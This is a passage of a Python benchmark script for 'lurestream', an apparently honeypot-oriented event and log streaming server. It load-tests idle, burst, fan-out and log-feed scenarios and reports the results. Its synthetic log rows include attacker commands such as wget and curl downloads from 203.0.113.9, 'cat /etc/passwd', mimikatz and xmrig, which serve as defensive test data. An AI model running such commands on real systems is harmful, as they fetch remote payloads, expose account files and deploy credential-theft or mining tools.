    server: Server, loadgen: str, tokens: list[str], args: argparse.Namespace, work: str, prof: Profiler
) -> dict:
    attackers = [f"a-{i}" for i in range(ATTACKERS)]
    before = server.rss_kb()
    prof.start(server, "idle")
    paths = paths_for(args.idle_streams, attackers, tokens)
    load = load_with(args, loadgen, server, paths, 600, work)  # stopped once measured
    try:
        ready = load.wait_ready(args.idle_streams / max(args.ramp, 1) + 120)
        time.sleep(args.idle_hold)
        after = server.rss_kb()
        workers = server.worker_info()
        up = established(server.port)
        prof.stop()
        load.stop()
        res = load.results()
    finally:
        load.kill()
    if not ready:
        print("  idle: the load generators did not resolve every connection in time", file=sys.stderr)
    return {
        "streams": int(res["up"]),
        "established": up,
        "kb_per_stream": (after - before) / max(res["up"], 1),
        "rss_mb": after / 1024,
        "failed": int(res["failed"]),
        "workers": workers,
        **load_row(res),
    }


def scenario_storm(
    server: Server, loadgen: str, tokens: list[str], args: argparse.Namespace, work: str, prof: Profiler
) -> dict:
    attackers = [f"a-{i}" for i in range(100)]
    queries_before = counter(scrape(server), "lurestream_snapshot_queries_total")
    prof.start(server, "storm")
    cpu = server.cpu_seconds()
    load = load_with(
        args,
        loadgen,
        server,
        paths_for(args.storm_streams, attackers, tokens),
        1,
        work,
        ramp=0,
    )
    try:
        res = load.results()
    finally:
        load.kill()
    cpu = server.cpu_seconds() - cpu
    prof.stop()
    queries = counter(scrape(server), "lurestream_snapshot_queries_total")
    return {
        "streams": int(res["up"]),
        "seconds": res["connect_seconds"],
        "per_second": res["up"] / max(res["connect_seconds"], 1e-9),
        "p50_ms": res["headers_p50_ms"],
        "p99_ms": res["headers_p99_ms"],
        "failed": int(res["failed"]),
        "queries_per_attacker": None if queries is None else (queries - (queries_before or 0)) / len(attackers),
        "cpu_ms_per_connect": cpu * 1000 / max(res["up"], 1),
        **load_row(res),
    }


def scenario_fanout(
    server: Server,
    loadgen: str,
    tokens: list[str],
    args: argparse.Namespace,
    work: str,
    prof: Profiler,
    scenario: str,
    nats_url: str,
    streams: int,
    attackers: list[str],
    rate: float,
    firehose: str = "",
) -> dict:
    """``firehose``: the streams are that firehose's (``/api/v1/identities/events``), the events ``identity.formed``
    (every stream wants every event; ``attackers`` are identity ids); else attacker streams over ``attackers``."""
    if firehose:
        paths = [f"{firehose}?token={tokens[i % len(tokens)]}" for i in range(streams)]
    else:
        paths = paths_for(streams, attackers, tokens)
    hold = args.duration + args.grace + 600  # stopped at the end of the grace
    load = load_with(args, loadgen, server, paths, hold, work, processes=args.loadgens if firehose else 0)
    try:
        load.wait_ready(streams / max(args.ramp, 1) + 120)
        time.sleep(1)
        load.reset()
        prof.start(server, scenario)
        cpu = server.cpu_seconds()
        started = time.monotonic()
        subject = "identity.formed" if firehose else "attacker.scored"
        sent, per_attacker = asyncio.run(publish(server, nats_url, attackers, rate, args.duration, subject))
        elapsed = time.monotonic() - started
        load.mark()  # deliveries from now on were in flight when publishing ended
        if not load.wait_drained(args.grace):
            print(f"  deliveries still arriving {args.grace:.0f} s after publishing ended", file=sys.stderr)
        cpu = server.cpu_seconds() - cpu
        prof.stop()
        load.stop()
        res = load.results()
    finally:
        load.kill()
    deliveries = res["events"]
    down = set(res["never_up"])  # never got a 200: no delivery is expected on them
    if firehose:
        expected = sent * (streams - len(down))
    else:
        expected = sum(per_attacker[attackers[i % len(attackers)]] for i in range(streams) if i not in down)
    return {
        "streams": int(res["up"]),
        "failed": int(res["failed"]),
        "events_per_s": sent / elapsed,
        "deliveries_per_s": deliveries / elapsed,
        "delivered_share": deliveries / max(expected, 1),
        "expected": expected,
        "deliveries": deliveries,
        "in_flight_at_end": res["events_after_mark"],
        "last_after_end_ms": res["last_event_after_mark_ms"],
        "p50_ms": res["latency_p50_ms"],
        "p99_ms": res["latency_p99_ms"],
        "max_ms": res["latency_max_ms"],
        "cpu_us_per_delivery": cpu * 1e6 / max(deliveries, 1),
        **load_row(res),
    }


# -- the live log feed (protocol §15) -----------------------------------------------------------------
# Rows are a function of their id (the bench knows every row it inserted without keeping them); only the
# timestamp and fields.ins (the insert time, the latency's origin) are set when a row is inserted.
LOG_DECKIES = [f"decky-{i:02d}" for i in range(20)]
LOG_SERVICES = (("ssh", 30, 22), ("http", 25, 80), ("smb", 10, 445), ("ftp", 10, 21), ("telnet", 10, 23))
LOG_SERVICES += (("rdp", 5, 3389), ("mysql", 5, 3306), ("smtp", 5, 25))
LOG_EVENTS = (("login_failed", 35), ("connect", 30), ("command", 20), ("request", 10), ("disconnect", 5))
LOG_USERS = (("root", 30), ("admin", 20), ("user", 10), ("test", 10), ("oracle", 5), ("pi", 5), ("ubnt", 5))
LOG_USERS += (("guest", 5), ("postgres", 5), ("deploy", 5))
LOG_COMMANDS = (("uname -a", 30), ("id", 25), ("wget http://203.0.113.9/x.sh", 15), ("cat /etc/passwd", 10))
LOG_COMMANDS += (
    ("curl -O http://203.0.113.9/y", 10),
    ("ls -la /tmp", 9.7),
    ("mimikatz.exe", 0.2),
    ("xmrig -o pool", 0.1),
)
LOG_IPS = [f"198.51.100.{i}" for i in range(1, 201)] + [f"203.0.113.{i}" for i in range(1, 201)]
LOG_HEAVY_IPS = 10  # the first 10 addresses send 3 % of the rows each; the other 390 share the remaining 70 %
LOG_TEXT_FIELDS_EVERY = 10  # every 10th row stores ``fields`` as JSON text (protocol §15 allows both)
LOG_CORE = {"decky": "decky", "service": "service", "event": "event_type", "attacker": "attacker_ip"}
LOG_CORE.update({"attacker-ip": "attacker_ip", "attacker_ip": "attacker_ip"})


def _pick(rng: random.Random, table: tuple[tuple[Any, ...], ...]) -> tuple[Any, ...]:
    return rng.choices(table, weights=[row[1] for row in table])[0]


def log_row(row_id: int) -> dict[str, Any]:
    """Row ``row_id`` of the bench's ``logs``, without ``timestamp`` and ``fields.ins`` (set at insert)."""
    rng = random.Random(row_id * 7919 + 17)
    service, _, port = _pick(rng, LOG_SERVICES)
    event = _pick(rng, LOG_EVENTS)[0]
    user = _pick(rng, LOG_USERS)[0]
    heavy = rng.random() < 0.3
    ip = LOG_IPS[rng.randrange(LOG_HEAVY_IPS)] if heavy else LOG_IPS[LOG_HEAVY_IPS + rng.randrange(390)]
    sport = 1024 + rng.randrange(60000)
    command = _pick(rng, LOG_COMMANDS)[0] if event == "command" else ""
    fields: dict[str, Any] = {"username": user, "port": port, "src_port": sport, "session": f"s{row_id % 1000}"}
    if command:
        fields["command"] = command
    return {
        "_id": row_id,
        "decky": LOG_DECKIES[rng.randrange(len(LOG_DECKIES))],
        "service": service,
        "event_type": event,
        "attacker_ip": ip,
        "raw_line": f"{service} {event} user={user} from {ip}:{sport}" + (f" cmd={command}" if command else ""),
        "fields": fields,
    }


def log_filters() -> list[tuple[str, str, str]]:
    """100 distinct filters (search, start_time, end_time) in DECNET's language, matching much to nothing."""
    searches = [""]  # a dashboard's default: every row
    searches += [f"service:{s[0]}" for s in LOG_SERVICES]
    searches += [f"decky:{d}" for d in LOG_DECKIES]
    searches += [f"event:{e[0]}" for e in LOG_EVENTS]
    searches += [f"attacker-ip:{ip}" for ip in LOG_IPS[:LOG_HEAVY_IPS]]
    searches += [f"attacker-ip:{ip}" for ip in LOG_IPS[LOG_HEAVY_IPS::39][:10]]
    searches += ["root", "admin", "wget", "passwd", "mimikatz", "xmrig", "FTP", "uname", "198.51.100.7", "decky-19"]
    searches += ["curl", "oracle", "Telnet", "smb", "guest", "deploy"]
    searches += [
        "service:ssh event:login_failed",
        "service:ssh root",
        "decky:decky-03 service:http",
        "service:http curl",
        "event:command wget",
        "username:root service:ssh",
        "decky:decky-00 event:connect",
        f"attacker-ip:{LOG_IPS[0]} service:ssh",
        "service:smb admin",
        "service:ftp event:login_failed",
        "service:telnet root",
        "decky:decky-05 root",
        "event:request service:http",
        "service:rdp admin",
        "decky:decky-11 event:command",
    ]
    searches += ["username:ubnt", "username:admin", "username:pi", "port:21", "port:3389", "port:445"]
    searches += ["session:s7", "session:s123", "src_port:40000", "username:postgres"]
    searches += ['"user=pi from"', '"cat /etc/passwd"']
    filters = [(s, "", "") for s in searches]
    filters += [("service:smtp", "2020-01-01T00:00:00Z", ""), ("", "2999-01-01T00:00:00Z", "")]
    filters += [("decky:decky-02", "", "2999-01-01T00:00:00Z")]
    assert len(set(filters)) == 100, len(set(filters))
    return filters


def log_matches(search: str, start: str, end: str, row: dict[str, Any], when: datetime) -> bool:
    """The bench's own reading of DECNET's search language (independent of lurestream.logsearch), for the
    filters above: every term must hold."""
    return _log_terms(search, start, end)(row, when)


_TERMS: dict[tuple[str, str, str], Any] = {}


def _log_terms(search: str, start: str, end: str) -> Any:
    """``search`` split once (shlex, as DECNET), as one test of a row."""
    import shlex

    found = _TERMS.get((search, start, end))
    if found is not None:
        return found
    bound = lambda text: datetime.fromisoformat(text.replace("Z", "+00:00")) if text else None  # noqa: E731
    low, high = bound(start), bound(end)
    core, other, words = [], [], []
    for token in shlex.split(search):
        if ":" in token:
            key, value = token.split(":", 1)
            (core if key in LOG_CORE else other).append((LOG_CORE.get(key, key), value))
        else:
            words.append(token.casefold())

    def test(row: dict[str, Any], when: datetime) -> bool:
        if low is not None and when < low or high is not None and when > high:
            return False
        if any(row[column] != value for column, value in core):
            return False
        for key, value in other:
            stored = row["fields"].get(key)
            if (stored if isinstance(stored, str) else json.dumps(stored)) != value:
                return False
        texts = [row[name].casefold() for name in ("raw_line", "decky", "service", "attacker_ip")] if words else []
        return all(any(word in text for text in texts) for word in words)

    _TERMS[(search, start, end)] = test
    return test


def mix64(x: int) -> int:
    """splitmix64's finaliser, as bench/loadgen.c sums it per stream."""
    mask = (1 << 64) - 1
    x = (x + 0x9E3779B97F4A7C15) & mask
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & mask
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & mask
    return x ^ (x >> 31)


class LogWriter:
    """What DECNET's collector does to ``logs``: inserts rows (``_id`` increasing) at a steady rate.

    The MongoDB-wire test server answers an ``_id`` range by reading the whole collection (neosqlite keeps
    ``_id`` as text and filters in Python: ~11 µs per stored row per query), where MongoDB uses the ``_id``
    index; so that the store's cost per query stays what MongoDB's would be — independent of how long the
    bench has run — the rows older than the newest ``keep`` are deleted once a second, for every server alike.
    """

    def __init__(self, mongo_url: str, keep: int) -> None:
        self.client: MongoClient[dict[str, Any]] = MongoClient(mongo_url)
        self.db = self.client.bench
        self.keep = keep
        self.next_id = 1
        self.low: int | None = None  # the lowest id that may still be stored

    def prepare(self, rows: int = 5000) -> int:
        """The deckies, and ``rows`` rows over the last hour (for the histograms) the first time; returns the
        id the next row gets."""
        if self.db.deckies.estimated_document_count() == 0:
            self.db.deckies.insert_many(
                [{"_id": d, "state": "running" if i < 15 else "stopped"} for i, d in enumerate(LOG_DECKIES)]
            )
        last = list(self.db.logs.find({"_id": {"$gte": 0}}, {"_id": 1}).sort("_id", -1).limit(1))
        if last:
            self.next_id = int(last[0]["_id"]) + 1
            return self.next_id
        now = datetime.now(timezone.utc)
        docs = []
        for n in range(rows):
            doc = log_row(n + 1)
            doc["timestamp"] = now - timedelta(seconds=3600 * (rows - n) / rows)
            docs.append(doc)
        self.db.logs.insert_many(docs)
        self.next_id = rows + 1
        return self.next_id

    def run(self, rate: float, seconds: float) -> dict[str, Any]:
        """Insert ``rate`` rows/s for ``seconds`` (a batch every 10 ms); returns the ids and the rate held."""
        first = self.next_id
        start = time.monotonic()
        next_prune = start + 1.0
        slowest = 0.0
        while True:
            now = time.monotonic()
            if now - start >= seconds:
                break
            due = first + int((now - start) * rate) - self.next_id
            if due > 0:
                docs = [log_row(i) for i in range(self.next_id, self.next_id + due)]
                wall = time.time()
                stamp = datetime.now(timezone.utc)
                for doc in docs:
                    doc["timestamp"] = stamp
                    fields = {"ins": wall, **doc["fields"]}
                    doc["fields"] = json.dumps(fields) if doc["_id"] % LOG_TEXT_FIELDS_EVERY == 0 else fields
                began = time.monotonic()
                self.db.logs.insert_many(docs, ordered=True)
                slowest = max(slowest, time.monotonic() - began)
                self.next_id += due
            if now >= next_prune:
                next_prune = now + 1.0
                self.prune()
            time.sleep(max(0.0, 0.01 - (time.monotonic() - now)))
        elapsed = time.monotonic() - start
        return {"first": first, "last": self.next_id - 1, "seconds": elapsed, "slowest_insert_s": slowest}

    def prune(self) -> None:
        """Delete the rows older than the newest ``keep``, by id: the MongoDB-wire server compares a range on
        ``_id`` as text when it deletes (``$lt: 5500`` deletes 10000), so the ids are named (``$in``)."""
        if self.low is None:
            first = list(self.db.logs.find({"_id": {"$gte": 0}}, {"_id": 1}).sort("_id", 1).limit(1))
            self.low = int(first[0]["_id"]) if first else self.next_id
        until = self.next_id - self.keep
        if until > self.low:
            self.db.logs.delete_many({"_id": {"$in": list(range(self.low, until))}})
            self.low = until

    def close(self) -> None:
        self.client.close()


def expected_rows(filters: list[tuple[str, str, str]], first: int, last: int) -> list[tuple[int, int, int]]:
    """Per filter: (rows, sum of ids, sum of mix64(id)) of the rows ``first``…``last`` it matches."""
    stamp = datetime.now(timezone.utc)  # the bench's time bounds are far from any insert time
    out = [[0, 0, 0] for _ in filters]
    mask = (1 << 64) - 1
    for row_id in range(first, last + 1):
        row = log_row(row_id)
        for k, (search, start, end) in enumerate(filters):
            if log_matches(search, start, end, row, stamp):
                entry = out[k]
                entry[0] += 1
                entry[1] = (entry[1] + row_id) & mask
                entry[2] = (entry[2] + mix64(row_id)) & mask
    return [(a, b, c) for a, b, c in out]


def check_against_logsearch(filters: list[tuple[str, str, str]], rows: int = 2000) -> int:
    """Rows on which the bench's matching and lurestream's (logsearch) disagree, over ``rows`` rows: 0 means the
    expectations are lurestream's rules too (a cross-check of the bench, not of the server)."""
    from lurestream.logsearch import parse_search, parse_time

    stamp = datetime.now(timezone.utc)
    parsed = [
        parse_search(s, start=parse_time(a) if a else None, end=parse_time(b) if b else None) for s, a, b in filters
    ]
    differ = 0
    for row_id in range(1, rows + 1):
        row = log_row(row_id)
        doc = dict(row, timestamp=stamp)
        if row_id % LOG_TEXT_FIELDS_EVERY == 0:
            doc["fields"] = json.dumps(row["fields"])
        for (search, start, end), flt in zip(filters, parsed, strict=True):
            differ += log_matches(search, start, end, row, stamp) != flt.matches(doc)
    return differ


def log_path(log_filter: tuple[str, str, str], token: str) -> str:
    search, start, end = log_filter
    query = {"search": search, "start_time": start, "end_time": end, "token": token}
    return "/api/v1/stream?" + urllib.parse.urlencode({k: v for k, v in query.items() if v})


def log_queries(server: Server) -> dict[str, float]:
    """The store queries the server has sent for the feed, by kind: lurestream's ``lurestream_log_queries_total``
    (tail, stats, histogram, resume), or the DECNET design's own count (max_id, poll, stats, histogram)."""
    if server.extra.get("lurestream"):
        return dict((scrape(server) or {}).get("lurestream_log_queries_total", {}))
    import urllib.request

    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{server.port}/bench/queries", timeout=60) as r:
            return {k: float(v) for k, v in json.loads(r.read()).items()}
    except OSError as exc:
        print(f"  /bench/queries: {exc}", file=sys.stderr)
        return {}


def scenario_logfeed(
    server: Server,
    loadgen: str,
    tokens: list[str],
    args: argparse.Namespace,
    work: str,
    prof: Profiler,
    mongo_url: str,
    viewers: int,
) -> dict:
    """``viewers`` streams of GET /api/v1/stream over the 100 filters while ``--logfeed-rate`` rows/s go into
    ``logs``: each stream's rows against the exact set it should get, delivery latency from the insert,
    the store queries per second by kind."""
    filters = log_filters()
    writer = LogWriter(mongo_url, args.logfeed_keep_rows)
    base = writer.prepare()
    paths = [log_path(filters[i % len(filters)], tokens[i % len(tokens)]) for i in range(viewers)]
    hold = args.duration + args.grace + 600  # stopped at the end of the grace
    env = {"LOADGEN_LOGS": str(base), "LOADGEN_QUIET": str(args.logfeed_quiet)}
    load = load_with(args, loadgen, server, paths, hold, work, processes=args.loadgens, env=env)
    try:
        load.wait_ready(viewers / max(args.ramp, 1) + 120)
        time.sleep(args.logfeed_settle)  # the openings (stats, histogram) are out; the tail is at the present
        queries_start = log_queries(server)
        load.reset()
        prof.start(server, f"logfeed-{viewers}")
        cpu = server.cpu_seconds()
        inserted = writer.run(args.logfeed_rate, args.duration)
        queries_end = log_queries(server)
        load.mark()  # rows from now on were in flight when inserting ended
        if not load.wait_drained(args.grace):
            print(f"  rows still arriving {args.grace:.0f} s after inserting ended", file=sys.stderr)
        cpu = server.cpu_seconds() - cpu
        prof.stop()
        queries_total = log_queries(server)
        load.stop()
        res = load.results()
    finally:
        load.kill()
        writer.close()
    expected = expected_rows(filters, inserted["first"], inserted["last"])
    down = set(res["never_up"]) | set(res["closed_early_idx"])
    complete = missing_streams = extra_streams = disorder = checked = 0
    rows_expected = rows_missing = 0
    worst: dict[str, tuple[int, int]] = {}  # filter → (rows expected per stream, fewest received)
    for i, got in enumerate(res["logs"]):
        if i in down:
            continue
        want = expected[i % len(filters)]
        checked += 1
        rows_expected += want[0]
        disorder += got[3]
        if tuple(got[:3]) == want and not got[3]:
            complete += 1
            continue
        if got[0] < want[0]:
            missing_streams += 1
            rows_missing += want[0] - got[0]
        else:
            extra_streams += 1
        name = " ".join(x for x in filters[i % len(filters)] if x) or "(no search)"
        seen = worst.get(name)
        worst[name] = (want[0], got[0] if seen is None else min(seen[1], got[0]))
    seconds = inserted["seconds"]
    per_s = {k: (queries_end.get(k, 0.0) - queries_start.get(k, 0.0)) / seconds for k in queries_end}
    deliveries = res["events"]
    return {
        "viewers": viewers,
        "filters": len(filters),
        "streams": int(res["up"]),
        "failed": int(res["failed"]),
        "closed_early": int(res["closed_early"]),
        "rows_inserted": inserted["last"] - inserted["first"] + 1,
        "insert_rate": (inserted["last"] - inserted["first"] + 1) / seconds,
        "slowest_insert_ms": inserted["slowest_insert_s"] * 1000,
        "expected": rows_expected,
        "deliveries": deliveries,
        "delivered_share": deliveries / max(rows_expected, 1),
        "deliveries_per_s": deliveries / seconds,
        "streams_complete": complete,
        "streams_checked": checked,
        "streams_missing_rows": missing_streams,
        "streams_other": extra_streams,
        "rows_missing": rows_missing,
        "out_of_order": disorder,
        "worst_filters": sorted(worst.items(), key=lambda kv: kv[1][1] - kv[1][0])[:5],
        "in_flight_at_end": res["events_after_mark"],
        "last_after_end_ms": res["last_event_after_mark_ms"],
        "p50_ms": res["latency_p50_ms"],
        "p99_ms": res["latency_p99_ms"],
        "max_ms": res["latency_max_ms"],
        "queries_per_s": per_s,
        "queries_per_s_total": sum(per_s.values()),
        "queries_run": queries_total,
        "cpu_us_per_delivery": cpu * 1e6 / max(deliveries, 1),
        "server_cpu_s": cpu,
        **load_row(res),
    }


# -- report -------------------------------------------------------------------------------------------
def table(title: str, rows: list[tuple[str, dict]], columns: list[tuple[str, str, str]], ratio: str | None) -> str:
    out = [
        f"### {title}",
        "",
        "| server | " + " | ".join(c[1] for c in columns) + (" | vs seed | vs nchan |" if ratio else " |"),
    ]
    out.append("|---" * (len(columns) + 1 + (2 if ratio else 0)) + "|")
    by_name = dict(rows)
    for name, r in rows:
        cells = [fmt(pick(r, c[0]), c[2]) for c in columns]
        if ratio:
            cells.append(ratio_cell(r, by_name.get("seed design"), ratio))
            cells.append(ratio_cell(r, by_name.get("nchan (nginx, C)"), ratio))
        out.append(f"| {name} | " + " | ".join(cells) + " |")
    return "\n".join(out) + "\n"


def pick(row: dict, key: str) -> Any:
    """``row[key]``, where ``a.b`` looks into ``row["a"]`` (the server counters)."""
    value: Any = row
    for part in key.split("."):
        value = value.get(part) if isinstance(value, dict) else None
    return value


def fmt(value: Any, spec: str) -> str:
    if value is None:
        return "—"
    return format(value, spec)


def ratio_cell(row: dict, base: dict | None, key: str) -> str:
    if base is None or row is base or not base.get(key) or row.get(key) is None:
        return "—"
    return f"{row[key] / base[key]:.2f}×"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--servers", default="lurestream,seed,nchan")
    parser.add_argument("--scenarios", default="idle,storm,sparse,broadcast")
    parser.add_argument("--processes", type=int, default=1, help="LURESTREAM_PROCESSES for lurestream")
    parser.add_argument("--idle-streams", type=int, default=10000)
    parser.add_argument(
        "--idle-hold", type=float, default=2, help="seconds the idle streams are held, once all are up, before RSS"
    )
    parser.add_argument("--storm-streams", type=int, default=10000)
    parser.add_argument("--sparse-streams", type=int, default=5000)
    parser.add_argument("--sparse-rate", type=float, default=3000)
    parser.add_argument("--broadcast-streams", type=int, default=5000)
    parser.add_argument("--broadcast-rate", type=float, default=10)
    parser.add_argument("--duration", type=float, default=15)
    parser.add_argument(
        "--ramp",
        type=float,
        default=1000,
        help="new streams/s (all load generators together) while setting up idle, sparse and broadcast",
    )
    parser.add_argument(
        "--grace",
        type=float,
        default=30,
        help="at most this many seconds after publishing ends, deliveries still count (the window ends "
        "earlier, once none has arrived for 2 s)",
    )
    parser.add_argument(
        "--profile", metavar="DIR", help="record each lurestream scenario's window with py-spy into DIR"
    )
    parser.add_argument("--profile-rate", type=int, default=250, help="py-spy samples per second")
    parser.add_argument(
        "--profile-blocking",
        action="store_true",
        help="let py-spy pause the process for each sample (exact stacks, but it slows the server and "
        "counts parked threads as active here; the default samples without pausing)",
    )
    parser.add_argument(
        "--retry-refused",
        type=int,
        default=0,
        metavar="N",
        help="open a refused stream (503, reset…) again 1–2 s later, up to N times, as a dashboard would; "
        "every refusal is still counted",
    )
    parser.add_argument(
        "--no-sources", action="store_true", help="let the kernel pick the load generators' source address"
    )
    parser.add_argument(
        "--seed-rate-factor",
        type=float,
        default=1.0,
        help="publish rate for the seed design relative to the others (it collapses at full rate)",
    )
    parser.add_argument(
        "--mongo-options",
        default="",
        help="options for lurestream's MongoDB URI, e.g. '?maxConnecting=16&minPoolSize=16' (PyMongo's pool, "
        "as docs/operations.md recommends; default: PyMongo's defaults)",
    )
    parser.add_argument(
        "--logfeed-streams",
        default="10000",
        help="viewers of GET /api/v1/stream for lurestream (comma-separated: one run each)",
    )
    parser.add_argument(
        "--logfeed-baseline-streams", default="1000", help="viewers for the DECNET design (--servers …,decnet)"
    )
    parser.add_argument("--logfeed-rate", type=float, default=1000, help="rows/s inserted into logs")
    parser.add_argument(
        "--logfeed-keep-rows",
        type=int,
        default=5000,
        help="rows kept in logs (older ones deleted once a second: the MongoDB-wire server scans the collection "
        "for an _id range, MongoDB would not)",
    )
    parser.add_argument(
        "--logfeed-settle", type=float, default=3, help="seconds between the last stream up and the first row"
    )
    parser.add_argument(
        "--logfeed-quiet",
        type=float,
        default=5,
        help="after inserting ends, rows are counted until none has arrived for this many seconds (rows come a "
        "poll apart; at most --grace s)",
    )
    parser.add_argument("--firehose-streams", type=int, default=10000)
    parser.add_argument("--firehose-rate", type=float, default=100)
    parser.add_argument(
        "--firehose-path", default="/api/v1/identities/events", help="the firehose (its events: identity.formed)"
    )
    parser.add_argument(
        "--loadgens", type=int, default=0, help="at least this many load generator processes for logfeed and firehose"
    )
    parser.add_argument(
        "--rounds",
        type=int,
        default=1,
        help="run the whole suite this many times, scenario by scenario, servers interleaved",
    )
    parser.add_argument(
        "--interleave",
        action="store_true",
        help="scenario by scenario with the servers side by side (default: server by server)",
    )
    parser.add_argument("--output", help="also write the Markdown to this file")
    args = parser.parse_args()
    servers = [s for s in args.servers.split(",") if s]
    scenarios = [s for s in args.scenarios.split(",") if s]
    most = max(
        [args.idle_streams if "idle" in scenarios else 0]
        + [args.firehose_streams if "firehose" in scenarios else 0]
        + ([int(n) for n in args.logfeed_streams.split(",")] if "logfeed" in scenarios else [0])
    )
    if most:  # each stream is a socket in some worker; the kernel spreads them evenly
        spread = 1.03 if args.processes > 1 else 1.0
        ensure_open_files(int(most / max(args.processes, 1) * spread) + 100)
    prof = Profiler(args.profile, args.profile_rate, blocking=args.profile_blocking)
    work = tempfile.mkdtemp(prefix="lurestream-bench-")
    nats_svc, mongo_svc = nats_server(work).start(), mongo_wire_server(work).start()
    results: dict[str, list[tuple[str, dict]]] = {s: [] for s in scenarios}
    if args.rounds > 1 or args.interleave:  # old, new, old, new: each scenario's servers side by side in time
        runs = [(r, sc, name) for r in range(args.rounds) for sc in scenarios for name in servers]
    else:
        runs = [(0, sc, name) for name in servers for sc in scenarios]
    try:
        tokens = seed(mongo_svc.url, 200)
        loadgen = build_loadgen(work)
        for rnd, scenario, name in runs:
            if name == "nchan" and not nchan_available():
                print("nchan: not installed (apt-get install nginx-light libnginx-mod-nchan); skipped", file=sys.stderr)
                continue
            if not runs_scenario(name, scenario):
                print(f"{name}: no {scenario} scenario; skipped", file=sys.stderr)
                continue
            sizes: list[int | None] = [None]
            if scenario == "logfeed":
                sizes = [int(n) for n in args.logfeed_streams.split(",")] if name != "decnet" else []
                sizes += [int(n) for n in args.logfeed_baseline_streams.split(",")] if name == "decnet" else []
            for size in sizes:
                row, server_name = run_one(
                    name, scenario, size, rnd, args, nats_svc, mongo_svc, loadgen, tokens, work, prof
                )
                results[scenario].append((server_name, row))
                time.sleep(1)
    finally:
        nats_svc.stop()
        mongo_svc.stop()
    report(results, args)


def runs_scenario(name: str, scenario: str) -> bool:
    """Which server runs which scenario: the DECNET design only the log feed; the seed design and nchan
    neither the log feed nor the firehose (they serve neither); a lurestream checkout (``lurestream@PATH``)
    the log feed and the firehose only when it has them."""
    if name == "decnet":
        return scenario == "logfeed"
    if scenario in ("logfeed", "firehose"):
        if name in ("seed", "nchan"):
            return False
        if name.startswith("lurestream@"):
            path = name.partition("@")[2]
            return os.path.exists(os.path.join(path, "lurestream", "logfeed.py"))
    return True


def run_one(
    name: str,
    scenario: str,
    size: int | None,
    rnd: int,
    args: argparse.Namespace,
    nats_svc: Any,
    mongo_svc: Any,
    loadgen: str,
    tokens: list[str],
    work: str,
    prof: Profiler,
) -> tuple[dict, str]:
    """One scenario against a fresh server; returns its row and the name it is reported under."""
    path = name.partition("@")[2] if name.startswith("lurestream@") else None
    lurestream = name == "lurestream" or path is not None
    commit = git_commit(path) if lurestream else None
    mongo_url = mongo_uri(mongo_svc.url, args.mongo_options) if lurestream else mongo_svc.url
    if lurestream:
        server = start_lurestream(nats_svc.url, mongo_url, args.processes, work, path)
    elif name == "seed":
        server = start_seed(nats_svc.url, mongo_svc.url, work)
    elif name == "decnet":
        server = start_decnet_logs(mongo_svc.url, work)
    else:
        server = start_nchan(work)
    label = server.name + (f", {size} viewers" if size else "") + (f" #{rnd + 1}" if args.rounds > 1 else "")
    print(f"{label}: {scenario} ..." + (f" (commit {commit})" if commit else ""), file=sys.stderr, flush=True)
    factor = args.seed_rate_factor if name == "seed" else 1.0
    services = {"nx-27017": mongo_svc, "nats-server": nats_svc}
    services_cpu = {k: tree_cpu(svc) for k, svc in services.items()}
    try:
        common = (server, loadgen, tokens, args, work, prof)
        if scenario == "idle":
            row = scenario_idle(*common)
        elif scenario == "storm":
            row = scenario_storm(*common)
        elif scenario == "sparse":
            attackers = [f"a-{i}" for i in range(500)]
            rate = args.sparse_rate * factor
            row = scenario_fanout(*common, scenario, nats_svc.url, args.sparse_streams, attackers, rate)
        elif scenario == "broadcast":
            rate = args.broadcast_rate * factor
            row = scenario_fanout(*common, scenario, nats_svc.url, args.broadcast_streams, ["a-0"], rate)
        elif scenario == "firehose":
            identities = [f"i-{i}" for i in range(100)]
            row = scenario_fanout(
                *common,
                scenario,
                nats_svc.url,
                args.firehose_streams,
                identities,
                args.firehose_rate,
                args.firehose_path,
            )
        elif scenario == "logfeed":
            assert size is not None
            row = scenario_logfeed(*common, mongo_url, size)
        else:
            raise SystemExit(f"unknown scenario {scenario}")
        time.sleep(1)  # the load generators' closes reach the server's counters
        if commit:
            row["commit"] = commit
        row["round"] = rnd + 1
        if lurestream:
            row["checkout"] = path or "this"
        row["server"] = counters_row(scrape(server))
        row["cpu_s"] = {"server": server.cpu_seconds()}  # over its life: this scenario
        row["cpu_s"].update({k: tree_cpu(svc) - services_cpu[k] for k, svc in services.items()})
    finally:
        prof.stop()
        server.stop()
    print(f"  {json.dumps(row)}", file=sys.stderr, flush=True)
    return row, label


def tree_cpu(service: Any) -> float:
    """CPU seconds used so far by a local service's process and its children."""
    proc = getattr(service, "proc", None)
    if proc is None:
        return 0.0
    out = subprocess.run(["ps", "-o", "pid=", "--ppid", str(proc.pid)], capture_output=True, text=True)
    return cpu_of(proc.pid) + sum(cpu_of(int(p)) for p in out.stdout.split())


def git_commit(root: str | None = None) -> str:
    """The commit the server runs (``+`` when lurestream/ has changes not committed) — this checkout's, or
    ``root``'s; read-only git calls."""
    root = root or os.path.dirname(HERE)
    try:
        head = subprocess.run(
            ["git", "rev-parse", "--short", "HEAD"], cwd=root, capture_output=True, text=True, timeout=10
        ).stdout.strip()
        dirty = subprocess.run(
            ["git", "--no-optional-locks", "diff", "--quiet", "HEAD", "--", "lurestream"], cwd=root, timeout=10
        ).returncode
    except (OSError, subprocess.SubprocessError):
        return "?"
    return head + ("+" if dirty else "")


def report(results: dict[str, list[tuple[str, dict]]], args: argparse.Namespace) -> None:
    commits = sorted({r["commit"] for rows in results.values() for _, r in rows if r.get("commit")})
    parts = [
        "# Scale results",
        "",
        f"Machine: {os.cpu_count()} cores, {platform.machine()}, Linux {platform.release()}, Python "
        f"{platform.python_version()}; {time.strftime('%Y-%m-%d')}. All servers, the load generators, the "
        "publisher, nats-server and the MongoDB-wire server share this machine."
        + (f" lurestream at commit {', '.join(commits)}." if commits else ""),
        "",
        "Command: `python bench/run.py " + " ".join(sys.argv[1:]) + "`",
        "",
    ]
    lag = [("server.lagging_closes", "lagging closes", "d"), ("server.send_timeouts", "send timeouts", "d")]
    if "idle" in results:
        parts.append(
            table(
                f"Idle: {args.idle_streams} streams held"
                + (f", {args.processes} lurestream processes" if args.processes > 1 else ""),
                results["idle"],
                [
                    ("streams", "streams up", "d"),
                    ("failed", "failed", "d"),
                    ("rss_mb", "RSS MB", ".0f"),
